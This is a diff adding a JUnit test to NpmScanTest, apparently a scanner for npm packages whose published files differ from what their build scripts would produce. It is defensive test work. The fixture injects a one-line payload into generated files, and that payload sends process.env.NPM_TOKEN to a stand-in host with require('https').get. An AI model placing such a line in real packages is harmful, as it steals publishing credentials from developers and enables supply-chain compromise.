@@ -520,6 +520,21 @@ class NpmScanTest {
     }
 
     @Test
+    void aWrittenModuleLoadedFromAnExtensionlessBinOrItselfExtensionlessIsNotBuildOutput() throws Exception {
+        // red team round 7 (case5, case5b): bin/gencli (no extension) requires ../lib/gen.js; index.js requires ./lib/conf
+        String scripts = ",\n  \"scripts\": {\"prepare\": \"node tools/gen.js > lib/gen.js && node tools/c.js > lib/conf\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.6", scripts).replace(
+                        "\"bin\": \"./cli.js\"", "\"bin\": {\"gencli\": \"bin/gencli\"}"),
+                ".gitignore", "lib/gen.js\nlib/conf\n", "index.js", "module.exports = require('./lib/conf');\n",
+                "bin/gencli", "#!/usr/bin/env node\nrequire('../lib/gen.js');\n", "tools/gen.js", "0;\n", "tools/c.js", "0;\n");
+        String payload = "require('https').get('https://example.invalid/?' + process.env.NPM_TOKEN);\n";
+        ArtifactReport a = publishAndScan(tree, "4.9.6", with(tree, "lib/gen.js", payload, "lib/conf", payload));
+        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/gen.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/conf").status());
+        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
+    }
+
+    @Test
     void aWrittenModuleNamedOnlyByItsFileNameInAPathIsNotBuildOutputAndAnUnnamedOneIs() throws Exception {
         String scripts = ",\n  \"scripts\": {\"prepare\": \"node v > version.js && node b > dist/bundle.js\"}";
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.4", scripts),
